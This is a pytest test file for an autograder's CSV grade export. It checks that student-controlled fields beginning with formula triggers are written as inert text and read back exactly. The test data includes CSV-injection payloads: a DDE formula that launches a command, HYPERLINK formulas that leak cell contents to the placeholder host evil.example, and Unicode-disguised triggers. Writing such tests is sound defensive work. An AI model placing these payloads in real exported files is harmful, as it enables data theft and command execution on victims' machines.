"""grades.csv opened in a spreadsheet (issue 23, item 4; OWASP's "CSV Injection"): a student folder named
``=SUM(1,1)``, a notebook or a message beginning with = + - @, a tab or CR (also after blanks, in full-width
forms, or after a ``;`` for spreadsheets that split at semicolons) is written as text with a leading ``'``,
the kit's numbers (negative ones too) stay numbers, and ``csv_cells.exact`` gives every id back byte for
byte. The rows go through the real writer (``scores.write_csv``); no grading run."""
import csv
import itertools
import random
import re
import shutil
import subprocess
import unicodedata

import pytest

from autograder.engine.grading import load_sources
from autograder.report.csv_cells import exact, formula_like, neutralised, read_rows
from autograder.report.scores import FIXED_COLUMNS, write_csv

pytestmark = pytest.mark.fast  # in-process, no grading run: `make test-fast`

A = "lab3_optimizers"
TRIGGERS = "=+-@\t\r"
TEXT_COLUMNS = {"student_id", "assignment", "notebook", "status", "message"}
NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]\d+)?")  # how the writer shows a number it computed (f"{v:g}")

# (what a student controls, as they would write it): each one a spreadsheet could evaluate
DANGEROUS = [
    "=SUM(1,1)", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")', "  =1+1", "\u3000=1+1", "\u00a0-1+1", "\u200b=1+1",
    "\ufeff@SUM(1,1)", '"=1+1"', "\uff1dSUM(1,1)", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1,1)", "\u22121+1",
    "\ufe62 1+1", "\x00=1",
]
SAFE = ["alice", "김민지", "anon_12345", "Park, Sora", "bob.lee@uni.example", "a-b", "1e5", "O'Brien", "x = 1", ""]


@pytest.fixture(scope="module")
def sources():
    return load_sources()


def _entry(student_id="alice", notebook=A, message="", score=1.0, **tests):
    """A row as ``scores.score_rows`` makes it (the keys the writer reads)."""
    return dict(student_id=student_id, assignment=A, notebook=notebook, score=score, max_score=14.0,
                status="graded", message=message, failed={}, verdicts={}, **tests)


def _written(tmp_path, table, sources):
    path = tmp_path / "g.csv"
    write_csv(table, path, sources)
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle)), path


def _starts_a_formula(cell):
    """The test's own reading of a cell, as a spreadsheet may: its first character, or the first after
    blanks and quotes, is = + - @ TAB CR, in any width (NFKC) or as U+2212."""
    stripped = "".join(itertools.dropwhile(
        lambda c: c.isspace() or c == '"' or unicodedata.category(c) in ("Cc", "Cf"), cell))
    return any(c and (c in TRIGGERS or unicodedata.normalize("NFKC", c)[:1] in TRIGGERS or c == "\u2212")
               for c in (cell[:1], stripped[:1]))


def _assert_no_formula(rows, path):
    """No cell of the file starts a formula: read as a spreadsheet splitting at commas (Python's csv, which
    reads quotes as spreadsheets do) and as one splitting at semicolons (the raw lines); a column of the
    kit's numbers (score, max_score, one per test) holds numbers only."""
    for row in rows:
        for column, cell in row.items():
            if column not in TEXT_COLUMNS:
                assert cell == "" or NUMBER.fullmatch(cell), (column, cell)
            else:
                assert not _starts_a_formula(cell), (column, cell)
    for line in path.read_text(encoding="utf-8").splitlines():
        for piece in line.split(";")[1:]:
            assert not _starts_a_formula(piece), (line, piece)


@pytest.mark.parametrize("column", ["student_id", "notebook", "message"])
@pytest.mark.parametrize("text", DANGEROUS)
def test_a_dangerous_field_is_written_as_text_and_read_back_exactly(tmp_path, sources, column, text):
    rows, path = _written(tmp_path, [_entry(**{column: text})], sources)
    [row] = rows
    assert row[column].startswith("'"), row[column]
    _assert_no_formula(rows, path)
    shown = text.replace("\t", " ").replace("\r", " ").replace("\x00", " ")  # (scores.shown_safe: controls)
    assert read_rows(path)[0][column] == shown


def test_student_ids_round_trip_byte_for_byte_and_ordinary_ones_are_written_as_they_are(tmp_path, sources):
    ids = ["alice", "'quoted", "''twice", "'=1+1", "=SUM(1,1)", "-1+1", "＝SUM(1,1)", " @x", "a;=1+1",
           "a; -b", "a;'=1", "a;'b", ";", "';", "O'Brien", "김민지"]
    rows, path = _written(tmp_path, [_entry(student_id=i) for i in ids], sources)
    _assert_no_formula(rows, path)
    assert sorted(r["student_id"] for r in read_rows(path)) == sorted(ids)  # exact, all of them
    written = {exact(r["student_id"]): r["student_id"] for r in rows}
    assert written["alice"] == "alice" and written["O'Brien"] == "O'Brien" and written["김민지"] == "김민지"
    assert written["'quoted"] == "''quoted" and written["''twice"] == "'''twice"  # a leading ' is always the kit's
    assert written["=SUM(1,1)"] == "'=SUM(1,1)" and written["a;=1+1"] == "a;'=1+1"
    assert written["a;'b"] == "a;'b"  # after a ;, only what could start a formula is touched
    assert "\n'''twice,lab3_optimizers," in path.read_text(encoding="utf-8")


def test_the_kits_numbers_stay_numbers_and_student_text_like_a_number_does_not(tmp_path, sources):
    """A negative score or test score is the kit's: written as the number it is. "-1+1" in a message or
    a notebook name is the student's: text."""
    rows, path = _written(tmp_path, [_entry(score=-1.0, message="-1+1", notebook="-1", test_sgd=-0.5,
                                            test_adam=3.0)], sources)
    [row] = rows
    assert (row["score"], row["max_score"], row["test_sgd"], row["test_adam"]) == ("-1", "14", "-0.5", "3")
    assert (row["message"], row["notebook"]) == ("'-1+1", "'-1")
    assert "alice,lab3_optimizers,'-1,-1,14,graded,'-1+1," in path.read_text(encoding="utf-8")
    _assert_no_formula(rows, path)


def test_a_formula_after_a_semicolon_in_a_message_is_text_for_a_spreadsheet_splitting_at_semicolons(tmp_path, sources):
    message = ('copied with the notebook: notes.txt; =HYPERLINK("http://evil.example/?"&A2;"x"); '
               "ValueError: x;  +1+1;\uff20SUM(1;1);'already;''=1")
    rows, path = _written(tmp_path, [_entry(message=message)], sources)
    _assert_no_formula(rows, path)
    assert read_rows(path)[0]["message"] == message
    assert "notes.txt;' =HYPERLINK" in rows[0]["message"] and ";'already;'''=1" in rows[0]["message"]


def test_a_safe_text_is_written_as_it_is(tmp_path, sources):
    rows, path = _written(tmp_path, [_entry(student_id=s, message=s) for s in SAFE if s], sources)
    assert sorted(r["student_id"] for r in rows) == sorted(s for s in SAFE if s)
    assert all(r["message"] == r["student_id"] for r in rows)
    assert all(neutralised(s) == s for s in SAFE)
    with open(path, newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle))[:len(FIXED_COLUMNS)] == FIXED_COLUMNS  # the header is the kit's


@pytest.mark.parametrize("text", DANGEROUS + SAFE + ["'", "''", "'=", "' =1", ";", ";;", "a;", ";'", ";''=1",
                                                     "';'", "=;=", "'\t", "\t'"])
def test_exact_undoes_neutralised(text):
    cell = neutralised(text)
    assert exact(cell) == text
    assert not formula_like(cell.split(";")[0]) and not any(formula_like(p) for p in cell.split(";")[1:])
    assert (cell != text) == (text.startswith("'") or formula_like(text.split(";")[0])
                              or any(formula_like(p.lstrip("'")) for p in text.split(";")[1:]))


def test_exact_undoes_neutralised_for_every_short_text_and_many_long_ones():
    """exact(neutralised(x)) == x for every x of up to 4 characters of an alphabet of the characters that
    matter (so x beginning with ' too), and for random longer ones; the result never starts a formula."""
    alphabet = ["'", ";", "=", "-", "@", "\t", " ", '"', "a", "\uff1d", "\u200b", ","]
    texts = ("".join(t) for n in range(5) for t in itertools.product(alphabet, repeat=n))
    rng = random.Random(23)
    longer = ("".join(rng.choice(alphabet + ["\r", "\n", "\u2212", "1", "+"]) for _ in range(rng.randint(5, 40)))
              for _ in range(20_000))
    for text in itertools.chain(texts, longer):
        cell = neutralised(text)
        assert exact(cell) == text, repr(text)
        assert not _starts_a_formula(cell), repr(text)
        assert not any(_starts_a_formula(p) for p in cell.split(";")[1:]), repr(text)


@pytest.mark.skipif(not (shutil.which("soffice") or shutil.which("libreoffice")), reason="LibreOffice is not installed")
def test_libreoffice_computes_no_cell(tmp_path, sources):
    """The file as LibreOffice Calc opens it (formulas evaluated, as it does by default), saved back as CSV:
    every cell is the text written (a formula would come back computed: "2" for =SUM(1,1))."""
    table = [_entry(student_id=f"s{i}{text}", notebook=text, message=text) for i, text in enumerate(DANGEROUS)]
    table += [_entry(student_id=text) for text in ("=SUM(1,1)", "+1+1", "@SUM(1,1)", "'=1+1", "a;=1+1")]
    rows, path = _written(tmp_path, table, sources)
    out = tmp_path / "out"
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path / 'profile'}",
                    "--infilter=CSV:44,34,76,1", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1",
                    "--outdir", str(out), str(path)], check=True, capture_output=True, timeout=300)
    with open(out / path.name, newline="", encoding="utf-8") as handle:
        computed = list(csv.DictReader(handle))
    assert len(computed) == len(rows)
    for before, after in zip(rows, computed):
        for column, cell in before.items():
            if column in FIXED_COLUMNS[3:5]:
                continue  # numbers: 14 may come back as 14 or 14.0
            assert after[column] in (cell, cell[1:] if cell.startswith("'") else cell), (column, cell, after[column])
